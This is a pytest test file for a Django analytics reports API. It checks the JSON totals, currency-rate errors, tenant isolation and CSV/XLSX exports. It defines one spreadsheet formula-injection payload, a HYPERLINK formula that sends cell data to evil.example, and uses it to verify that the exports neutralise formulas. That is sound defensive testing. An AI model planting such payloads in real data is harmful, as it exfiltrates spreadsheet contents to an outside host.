"""The reports API: JSON with decimal strings, CSV and XLSX downloads whose text never becomes a formula,
422 for a missing rate, another organization's traffic never seen (404 by slug, nothing without one)."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from apps.analytics.models import DailyRollup, TrafficSource
from apps.analytics.services import import_rows
from apps.core.accounts.roles import Role
from apps.core.models import FxRate
from tests.analytics.factories import MetricRow, TrafficSourceFactory, import_job, reading_of

pytestmark = pytest.mark.django_db

BASE = "/api/v1/analytics/reports/"
MAY_1, MAY_2 = date(2026, 5, 1), date(2026, 5, 2)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def load(source, rows):
    # The import sums its days into the rollup, which the reports read.
    import_rows(import_job(source, force=True), [rows], reading=reading_of(rows))


def row(line, day, name, spend, currency="USD", **metrics):
    return MetricRow(
        line=line,
        report_date=day,
        campaign_id="",
        campaign_name=name,
        spend=Decimal(spend),
        currency=currency,
        **metrics,
    )


@pytest.fixture
def org(organization):
    organization.reporting_currency_id = "USD"
    organization.save()
    source = TrafficSourceFactory(organization=organization, name="Network")
    load(source, [row(2, MAY_1, EVIL, "10.00", clicks=4), row(3, MAY_2, "Brand", "5.00", clicks=0)])
    return organization


@pytest.fixture
def api(org, member_of):
    client = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    client.force_authenticate(member_of(org, role=Role.VIEWER))
    return client


PERIOD = {"date_from": "2026-05-01", "date_to": "2026-05-31"}


def test_the_traffic_report_answers_decimal_strings_and_null_kpis(api):
    response = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "day"})

    assert response.status_code == 200, response.content
    data = response.json()
    assert data["currency"] == "USD"
    assert [(r["key"], r["time_zone"], r["sums"]["spend"], r["kpis"]["cpc"]) for r in data["rows"]] == [
        ("2026-05-01", "UTC", "10.00", "2.5000"),
        ("2026-05-02", "UTC", "5.00", None),  # no clicks: no CPC
    ]
    assert data["totals"]["clicks"] == 4
    assert data["total_kpis"]["cpc"] == "3.7500"
    assert data["mixed_time_zones"] is False
    assert [r["time_zones"] for r in data["rows"]] == [["UTC"], ["UTC"]]
    assert data["source_kinds"] == ["ad_network"]
    assert data["mixed_source_kinds"] is False
    assert data["metric_kinds"] == {"clicks": ["ad_network"], "spend": ["ad_network"]}


def test_group_by_and_filters(api):
    response = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "campaign"})
    assert [r["label"] for r in response.json()["rows"]] == [EVIL, "Brand"]  # by name: "=" sorts first

    bad = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "planet"})
    assert bad.status_code == 400
    assert "group_by" in bad.json()["error"]["fields"]


def test_sources_of_different_kinds_are_summed_metric_by_metric_in_the_answer_and_the_download(api, org):
    tracker = TrafficSourceFactory(organization=org, name="Tracker", kind=TrafficSource.Kind.TRACKER)
    load(tracker, [row(2, MAY_2, "Brand", "3.00", clicks=4)])  # the network counted 0 clicks for 5.00 that day

    data = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "day"}).json()
    text = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "day", "format": "csv"}).content.decode("utf-8-sig")

    assert (data["source_kinds"], data["mixed_source_kinds"]) == (["ad_network", "tracker"], True)
    assert data["metric_kinds"] == {"clicks": ["ad_network"], "spend": ["ad_network"]}
    assert (data["totals"]["clicks"], data["totals"]["spend"]) == (4, "15.00")  # the network's figures alone
    assert (
        "The report adds up sources of different kinds (ad network, tracker). So that nothing is counted twice, "
        "each metric of a campaign's day is taken from one kind of source: spend and clicks from the ad networks. "
        "Where that kind has no value for the campaign's day, it is taken from another kind." in text
    )


def test_csv_neutralises_formulas_and_keeps_numbers_numbers(api):
    response = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "campaign", "format": "csv"})

    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("Campaign,Time zone,Impressions,Clicks")
    assert lines[1].startswith("\"'=HYPERLINK(")  # an apostrophe: shown as text, never run
    assert ",10.00," in lines[1]
    assert lines[2] == "Brand,UTC,,0,,,5.00,," + ",".join(["—"] * 10)  # no impressions, clicks, revenue
    assert "Total" in lines[3]


def test_xlsx_writes_formulas_as_text(api):
    response = api.get(f"{BASE}traffic/", {**PERIOD, "group_by": "campaign", "format": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value == EVIL]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # a string cell, not a formula
    spend = [line for line in sheet.iter_rows(values_only=True) if line[0] == EVIL][0][6]
    assert spend == 10  # a numeric cell


def test_a_missing_rate_answers_422(api, org):
    source = TrafficSourceFactory(organization=org, name="Euro")
    load(source, [row(2, MAY_1, "Euro", "1.00", currency="EUR")])

    response = api.get(f"{BASE}traffic/", PERIOD)
    assert response.status_code == 422
    assert (response.json()["error"]["code"], response.json()["error"]["base"]) == ("missing_rate", "EUR")

    FxRate.objects.create(date=MAY_1, base_id="EUR", quote_id="USD", rate=Decimal("1.5"), source="cbr")
    data = api.get(f"{BASE}traffic/", PERIOD).json()
    assert data["totals"]["spend"] == "16.50"
    assert [(r["base"], r["on"], r["rate"]) for r in data["rates"]] == [("EUR", "2026-05-01", "1.500000000000")]


def test_reconciliation_and_freshness_answer(api):
    response = api.get(f"{BASE}reconciliation/", {**PERIOD, "threshold": "0.1"})
    assert response.status_code == 200
    assert response.json()["threshold"] == "0.1000"
    assert {r["campaign"] for r in response.json()["rows"]} == {EVIL, "Brand"}

    fresh = api.get(f"{BASE}freshness/")
    assert fresh.status_code == 200
    assert [(item["name"], item["newest"], item["stale"]) for item in fresh.json()] == [("Network", "2026-05-02", True)]


@pytest.mark.parametrize("report", ["traffic/", "reconciliation/", "freshness/"])
def test_another_organization_is_not_found_and_never_counted(org, other_organization, member_of, report):
    theirs = TrafficSourceFactory(organization=other_organization, name="Theirs")
    load(theirs, [row(2, MAY_1, "Theirs", "999.00")])
    client = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    client.force_authenticate(member_of(other_organization, role=Role.OWNER))

    assert client.get(f"{BASE}{report}", {"organization": org.slug}).status_code == 404
    own = client.get(f"{BASE}{report}", PERIOD).content.decode()
    assert "Network" not in own
    assert "Brand" not in own
    assert DailyRollup.objects.filter(organization=org).exists()


def test_anonymous_requests_are_refused(org):
    assert APIClient().get(f"{BASE}traffic/").status_code in (401, 403)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_description_of_a_report_is_json_even_when_a_file_is_asked_for(api, fmt):
    response = api.options(f"{BASE}traffic/?format={fmt}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response.json()["name"]
